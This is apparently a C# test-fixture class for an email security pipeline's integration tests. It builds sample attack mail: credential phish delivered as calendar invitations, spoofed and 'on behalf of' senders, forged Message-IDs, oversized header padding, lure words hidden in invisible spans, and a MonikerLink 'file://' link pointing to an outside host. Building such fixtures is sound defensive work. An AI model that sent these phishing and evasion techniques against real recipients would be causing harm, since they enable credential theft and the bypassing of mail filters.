using MimeKit;
using Remediation.Testing;

namespace Remediation.IntegrationTests.Security;

/// <summary>Messages an outsider writes to steer the pipeline, and the ordinary mail they aim it at.</summary>
internal static class AttackMail
{
    public const string BlockedSenderDomain = "blocked-sender.example";

    /// <summary>A partner the SOC allowlisted by domain.</summary>
    public const string AllowedPartnerDomain = "partner.example";

    /// <summary>
    /// The credential phish sent as a meeting invitation: its words and link beside an iCalendar request, which makes a
    /// tentative entry, link and all, in each attendee's calendar.
    /// </summary>
    public static string PhishingInvitation(string domain, params string[] recipients)
    {
        var message = MimeMessage.Load(new MemoryStream(System.Text.Encoding.UTF8.GetBytes(SampleMail.CredentialPhish(domain, recipients))));
        var calendar = new TextPart("calendar")
        {
            Text = "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:password-review\r\nSUMMARY:Password expiry review\r\n" +
                $"ORGANIZER:mailto:{message.From.Mailboxes.First().Address}\r\nDTSTART:20261201T100000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
        };
        calendar.ContentType.Parameters.Add("method", "REQUEST");
        message.Body = new MultipartAlternative { message.Body!, calendar };
        return message.ToString();
    }

    /// <summary>The credential phish written in someone else's name (an allowlisted partner, a colleague) from a server of the attacker's.</summary>
    public static string CredentialPhishAs(MailboxAddress from, string domain, params string[] recipients)
    {
        var message = MimeMessage.Load(new MemoryStream(System.Text.Encoding.UTF8.GetBytes(SampleMail.CredentialPhish(domain, recipients))));
        message.From.Clear();
        message.From.Add(from);
        return message.ToString();
    }

    /// <summary>The credential phish's words under a Message-ID and subject of the writer's choosing, in someone's name.</summary>
    public static string CredentialPhishAsUnder(MailboxAddress from, string messageId, string subject, string domain, params string[] recipients)
    {
        var message = MimeMessage.Load(new MemoryStream(System.Text.Encoding.UTF8.GetBytes(CredentialPhishAs(from, domain, recipients))));
        message.MessageId = messageId.Trim('<', '>');
        message.Subject = subject;
        return message.ToString();
    }

    /// <summary>The credential phish with about 250 KB of the sender's own headers ahead of what transport adds.</summary>
    public static string PaddedPhish(string domain, params string[] recipients)
    {
        var message = MimeMessage.Load(new MemoryStream(System.Text.Encoding.UTF8.GetBytes(SampleMail.CredentialPhish(domain, recipients))));
        for (var i = 0; i < 2_600; i++)
        {
            message.Headers.Add($"X-Trace-{i:D4}", new string('a', 90));
        }
        return message.ToString();
    }

    /// <summary>A meeting acceptance as Outlook sends it: no body text at all.</summary>
    public static string MeetingAccepted(string domain, string from, params string[] recipients) =>
        SampleMail.Build($"{from}@{domain}", recipients.Select(r => $"{r}@{domain}"), "Accepted: Planning meeting", "");

    /// <summary>Digits only, malicious through its sender alone: its body says nothing a campaign could be known by.</summary>
    public static string DigitsOnly(string domain, string recipient) =>
        SampleMail.Build($"Alerts <alerts@{BlockedSenderDomain}>", [$"{recipient}@{domain}"], "Your code", "482913");

    /// <summary>An ordinary message of a real thread, whose Message-ID an attacker then reuses.</summary>
    public static string ThreadMessage(string domain, string messageId, params string[] recipients)
    {
        var message = MimeMessage.Load(new MemoryStream(System.Text.Encoding.UTF8.GetBytes(
            SampleMail.Build($"colleague@{domain}", recipients.Select(r => $"{r}@{domain}"), "Q3 planning", "Hi both,\n\nthe Q3 planning notes are attached to the team site; please add your estimates by Friday.\n\nThanks"))));
        message.MessageId = messageId;
        return message.ToString();
    }

    /// <summary>A partner's announcement to several people, with its link and its own Message-ID.</summary>
    public static string Announcement(MailboxAddress from, string messageId, string domain, params string[] recipients)
    {
        var message = MimeMessage.Load(new MemoryStream(System.Text.Encoding.UTF8.GetBytes(SampleMail.Build(
            "placeholder@fabrikam.example", recipients.Select(r => $"{r}@{domain}"), "Partner summit in Lisbon, 14 October",
            "Dear partners,\n\nour partner summit takes place in Lisbon on 14 October. Seats are limited: register with your partner account on the portal before the end of the month.\n\nhttps://partners.fabrikam.example/summit\n\nKind regards,\nFabrikam Partner Team"))));
        message.From.Clear();
        message.From.Add(from);
        message.MessageId = messageId;
        return message.ToString();
    }

    /// <summary>
    /// A shop's newsletter that is only suspicious as delivered (7.5: a tracked link whose text shows another address,
    /// a shortened link, "this message is not spam"), and malicious placed without transport (2.5 more).
    /// </summary>
    public static string Newsletter(string from, string messageId, string domain, params string[] recipients) =>
        Newsletter(from, messageId, domain, extra: "", recipients);

    /// <summary>
    /// The newsletter with a gift guide on a free hosting platform: malicious as delivered, at 10 points, below the
    /// default score floor of 12, which the 2.5 points for being placed without transport lift an appended copy over.
    /// </summary>
    public static string GiftGuideNewsletter(string from, string messageId, string domain, params string[] recipients) =>
        Newsletter(from, messageId, domain, extra: """<p>Our gift guide: <a href="https://fabrikam-gifts.netlify.app/">fabrikam-gifts.netlify.app</a></p>""", recipients);

    /// <summary>The same newsletter with an invisible link through the MonikerLink exploit: malicious on its own.</summary>
    public static string NewsletterWithMonikerLink(string from, string messageId, string domain, params string[] recipients) =>
        Newsletter(from, messageId, domain, extra: """<a href="file://198.51.100.5/share/catalogue.rtf!open"></a>""", recipients);

    /// <summary>
    /// The same newsletter with lure words hidden inside address-like tokens in an invisible span: the lure rules read
    /// them, the fingerprint takes such tokens for per-recipient addresses and leaves them out.
    /// </summary>
    public static string NewsletterWithHiddenLure(string from, string messageId, string domain, params string[] recipients) =>
        Newsletter(from, messageId, domain, extra: """<span style="display:none">x@account suspended@x x@payment failed@x x@parcel held@x x@within 24 hours@x</span>""", recipients);

    /// <summary>The same newsletter sent on behalf of another sender, by a mail client that says it is Outlook.</summary>
    public static string NewsletterOnBehalfOf(string sender, string from, string messageId, string domain, params string[] recipients)
    {
        var message = MimeMessage.Load(new MemoryStream(System.Text.Encoding.UTF8.GetBytes(Newsletter(from, messageId, domain, recipients))));
        message.Sender = MailboxAddress.Parse(sender);
        message.Headers.Add("X-Mailer", "Microsoft Outlook 16.0");
        return message.ToString();
    }

    private static string Newsletter(string from, string messageId, string domain, string extra, string[] recipients)
    {
        var message = new MimeMessage
        {
            Subject = "Fabrikam winter catalogue",
            MessageId = messageId,
            Date = DateTimeOffset.UtcNow,
            Body = new TextPart("html")
            {
                Text = $$"""
                    <p>Hello,</p>
                    <p>our winter catalogue is out, with the new range of desks and chairs for home offices.</p>
                    <p>Browse it at <a href="https://click.fabrikam-mail.example/t/8841">https://www.fabrikam.example/winter</a>
                    or watch the video: <a href="https://bit.ly/fabrikam-winter">bit.ly/fabrikam-winter</a></p>
                    {{extra}}
                    <p>This message is not spam: you receive it because you signed up at fabrikam.example.</p>
                    <p>Fabrikam Store</p>
                    """,
            },
        };
        message.From.Add(MailboxAddress.Parse(from));
        message.To.AddRange(recipients.Select(r => MailboxAddress.Parse($"{r}@{domain}")));
        return message.ToString();
    }

    /// <summary>The credential phish under a Message-ID the attacker chose, naming recipients it was never sent to.</summary>
    public static string PhishWithMessageId(string domain, string messageId, params string[] recipients)
    {
        var message = MimeMessage.Load(new MemoryStream(System.Text.Encoding.UTF8.GetBytes(SampleMail.CredentialPhish(domain, recipients))));
        message.MessageId = messageId;
        return message.ToString();
    }
}
